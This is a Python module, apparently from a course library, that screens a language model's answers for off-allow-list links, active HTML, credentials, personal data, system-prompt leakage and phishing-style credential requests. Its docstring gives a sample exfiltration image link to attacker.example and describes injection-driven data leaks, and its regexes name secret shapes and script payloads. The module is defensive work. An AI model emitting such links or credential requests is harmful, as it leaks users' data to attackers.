"""Checks on what the model says, before anyone sees it or any system acts on it.

The answer is untrusted output (OWASP LLM05, improper output handling): whatever the model
read, an attacker may have written. Each check here looks for one way an answer hurts:

* :func:`find_links` and :func:`untrusted_links`: links and images to hosts off an allow-list.
  A chat window that renders ``![](https://attacker.example/c?d=<data>)`` fetches it without a
  click, and the query string carries the data out: the exfiltration channel of most published
  injection attacks. A lookalike host (``kestrel-support.example``) or a host hidden behind
  userinfo (``https://kestrel.example@attacker.example``) is not the company's;
* :func:`find_active_html`: ``<script>``, ``<img>``, ``<iframe>`` and ``javascript:`` links,
  which a page that inserts the answer as HTML would run;
* :func:`contains_credential`: credentials (the course's :func:`course_lib.redaction.redact`
  patterns and registered secrets, plus cloud and code-host key shapes), which
  :func:`redact_credentials` hides;
* :func:`redact_personal_data`: personal data (OWASP LLM02), found by the course's one
  detector (:mod:`course_lib.personal_data`) and replaced in words a reader understands;
* :func:`leaks_system_prompt`: a run of words copied from the system prompt (OWASP LLM07);
* :func:`find_credential_requests`: an answer that asks the user to send a password or an MFA
  code somewhere, the payload of a phishing injection. "Never share your password" is advice,
  not a request, and is left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from urllib.parse import urlsplit

from course_lib.errors import SettingsError
from course_lib.personal_data import (
    PERSONAL_DATA_KINDS,
    PersonalData,
    redact_personal_data as _redact_personal_data,
)
from course_lib.redaction import REDACTED, redact

__all__ = [
    "PERSONAL_DATA_REMOVED",
    "Link",
    "check_domains",
    "contains_credential",
    "find_active_html",
    "find_credential_requests",
    "find_links",
    "host_allowed",
    "leaks_system_prompt",
    "redact_credentials",
    "redact_personal_data",
    "untrusted_links",
]


@dataclass(frozen=True)
class Link:
    """A link or image in a text: the URL, its host, and the span to cut if it must go."""

    url: str
    host: str
    start: int
    end: int
    image: bool = False


_MARKDOWN_LINK = re.compile(r"(!?)\[([^\]\n]{0,200})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_HTML_URL = re.compile(
    r"<(?:a|img|iframe|script|link)\b[^>]*?\b(?:href|src)\s*=\s*[\"']?([^\"'\s>]+)", re.I
)
_BARE_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]{}\"'`]+", re.I)


def _host(url: str) -> str:
    try:
        host = urlsplit(url.strip()).hostname or ""
    except ValueError:  # an unparseable URL (a bad port, say): treat it as untrusted
        return "?"
    return host.lower().rstrip(".")


def find_links(text: str) -> list[Link]:
    """Every link in ``text``: Markdown links and images, HTML ``href``/``src``, bare URLs."""
    links: list[Link] = []
    taken: list[tuple[int, int]] = []
    for match in _MARKDOWN_LINK.finditer(text):
        url = match.group(3)
        links.append(Link(url, _host(url), *match.span(), image=match.group(1) == "!"))
        taken.append(match.span())
    for match in _HTML_URL.finditer(text):
        if any(s <= match.start() < e for s, e in taken):
            continue
        tag_end = text.find(">", match.end())
        end = tag_end + 1 if tag_end != -1 else match.end()
        url = match.group(1)
        links.append(Link(url, _host(url), match.start(), end, image="<img" in match.group(0)))
        taken.append((match.start(), end))
    for match in _BARE_URL.finditer(text):
        if any(s <= match.start() < e for s, e in taken):
            continue
        url = match.group(0).rstrip(".,;:!?")
        links.append(Link(url, _host(url), match.start(), match.start() + len(url)))
    return sorted(links, key=lambda link: link.start)


_DOMAIN = re.compile(r"^(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}$")


def check_domains(domains: Sequence[str]) -> tuple[str, ...]:
    """The allow-list, lower-cased, after checking each entry is a bare domain.

    Raises:
        SettingsError: an entry with a scheme, a path, a wildcard or a port.
    """
    if isinstance(domains, str):
        domains = (domains,)
    checked = []
    for domain in domains:
        cleaned = str(domain).strip().lower().rstrip(".")
        if not _DOMAIN.fullmatch(cleaned):
            raise SettingsError(
                f"allowed domain {domain!r} is not a bare domain; write it like "
                "'kestrel.example' (no https://, path, port or *: subdomains are included)."
            )
        checked.append(cleaned)
    return tuple(checked)


def host_allowed(host: str, allowed_domains: Sequence[str]) -> bool:
    """Whether ``host`` is one of ``allowed_domains`` or a subdomain of one."""
    host = host.lower().rstrip(".")
    return any(host == d or host.endswith("." + d) for d in allowed_domains)


def untrusted_links(text: str, allowed_domains: Sequence[str]) -> list[Link]:
    """The links in ``text`` whose host is not on the allow-list (a relative link is fine)."""
    domains = check_domains(allowed_domains)
    return [
        link
        for link in find_links(text)
        if (link.host or urlsplit(link.url).scheme) and not host_allowed(link.host, domains)
    ]


_ACTIVE_HTML = re.compile(
    r"<script\b.*?(?:</script\s*>|$)|<(?:img|iframe|object|embed|svg|link|meta)\b[^>]*>"
    r"|\bon[a-z]+\s*=\s*[\"'][^\"']*[\"']|javascript:[^\s\"')]*",
    re.I | re.S,
)


def find_active_html(text: str) -> list[tuple[int, int]]:
    """Spans of HTML that would run or load something if the answer were inserted as HTML."""
    return [m.span() for m in _ACTIVE_HTML.finditer(text)]


_SECRET_SHAPES = re.compile(
    r"\bAKIA[0-9A-Z]{16}\b"  # an AWS access key id
    r"|\bgh[pousr]_[A-Za-z0-9]{36,}\b"  # a GitHub token
    r"|\bxox[abprs]-[A-Za-z0-9-]{10,}\b"  # a Slack token
    r"|-----BEGIN [A-Z ]*PRIVATE KEY-----"  # a private key
    r"|\b(?:password|passwd|pwd|secret|token|api[_-]?key)\b\s*[:=]\s*"
    r"(?=[^\s,;]*\d)(?=[^\s,;]*[A-Za-z])[^\s,;]{8,}",  # a key = value with a real-looking value
    re.I,
)


def contains_credential(text: str, secrets: Sequence[str] = ()) -> bool:
    """Whether ``text`` holds a credential: a known shape, a registered secret, or ``secrets``."""
    return bool(_SECRET_SHAPES.search(text)) or redact(text, secrets) != text


def redact_credentials(text: str, secrets: Sequence[str] = ()) -> str:
    """``text`` with every credential replaced by ``[redacted]``.

    :func:`course_lib.redaction.redact` first (registered secrets, ``Authorization`` and
    ``api-key`` values, ``Bearer`` tokens, ``sk-`` keys, passwords in URLs), then the shapes
    above.
    """
    return _SECRET_SHAPES.sub(REDACTED, redact(text, secrets))


PERSONAL_DATA_REMOVED = "[{kind} removed]"
"""What replaces personal data in an answer. A reader is told, in words, what went (as with
``[link removed]``); logs and traces keep the handbook's ``[REDACTED:<kind>]``."""


def redact_personal_data(
    text: str,
    kinds: Iterable[str] | str = PERSONAL_DATA_KINDS,
    *,
    allow: Sequence[str] | str = (),
    placeholder: str = PERSONAL_DATA_REMOVED,
) -> tuple[str, list[PersonalData]]:
    """``text`` with its personal data replaced, and what was replaced, for an answer's reader.

    :func:`course_lib.personal_data.redact_personal_data` (same kinds, ``allow`` and errors),
    with :data:`PERSONAL_DATA_REMOVED` as the default placeholder:

    >>> redact_personal_data("Call Ana on +351 912 345 678.")[0]
    'Call Ana on [phone removed].'
    """
    return _redact_personal_data(text, kinds, allow=allow, placeholder=placeholder)


_WORD = re.compile(r"[a-z0-9]+")


_QUOTED = re.compile(r"\"[^\"\n]{1,300}\"|“[^”\n]{1,300}”")


def leaks_system_prompt(
    text: str, system_prompt: str, *, min_words: int = 8, ignore_quoted: bool = True
) -> bool:
    """Whether ``text`` repeats ``min_words`` or more consecutive words of ``system_prompt``.

    Case, punctuation and spacing are ignored, so a reformatted copy counts. A system prompt
    shorter than ``min_words`` counts as leaked only when it appears whole.

    Args:
        ignore_quoted: leave out the phrases the prompt quotes for the model to say (its fixed
            refusal, an example answer): repeating those is doing as told, not a leak. Without
            it, every "I don't know" a prompt scripts is blocked as a leak.

    Raises:
        ValueError: ``min_words`` below 3 (shorter runs match ordinary sentences).
    """
    if min_words < 3:
        raise ValueError(f"min_words must be at least 3, got {min_words}.")
    said = _WORD.findall(text.lower())
    pieces = _QUOTED.split(system_prompt) if ignore_quoted else [system_prompt]
    shingles: set[tuple[str, ...]] = set()
    whole = _WORD.findall(system_prompt.lower())
    for piece in pieces:
        words = _WORD.findall(piece.lower())
        n = min(min_words, len(whole))
        shingles.update(tuple(words[i : i + n]) for i in range(len(words) - n + 1))
    if not shingles or not said:
        return False
    n = len(next(iter(shingles)))
    return any(tuple(said[i : i + n]) in shingles for i in range(len(said) - n + 1))


_CREDENTIAL_REQUEST = re.compile(
    r"\b(?:send|e-?mail(?! address)|share|give|tell|reply with|post|forward|enter|type|provide|"
    r"submit|disclose)\b[^.;\n]{0,60}?\b(?:passwords?|passcodes?|pins?|(?:mfa|2fa|otp|one-time|"
    r"verification|security|authenticator) codes?|otps?|recovery codes?)\b",
    re.I,
)
_NEGATION = re.compile(r"\b(?:never|not|don't|dont|no one|nobody|won't|will not)\b|n't\b", re.I)
_SENTENCE_START = re.compile(r"(?:^|(?<=[.!?])\s+|\n)")
_SENTENCE_END = re.compile(r"[.!?](?=\s|$)")


def find_credential_requests(text: str) -> list[str]:
    """Sentences of ``text`` that ask the reader to hand over a password or an MFA code.

    A sentence that negates the request ("never share your password") is advice and is not
    returned.
    """
    requests = []
    for match in _CREDENTIAL_REQUEST.finditer(text):
        starts = [m.end() for m in _SENTENCE_START.finditer(text, 0, match.start())]
        start = starts[-1] if starts else 0
        if _NEGATION.search(text[start : match.end()]):
            continue
        end = _SENTENCE_END.search(text, match.end())
        requests.append(" ".join(text[start : end.end() if end else len(text)].split()))
    return requests
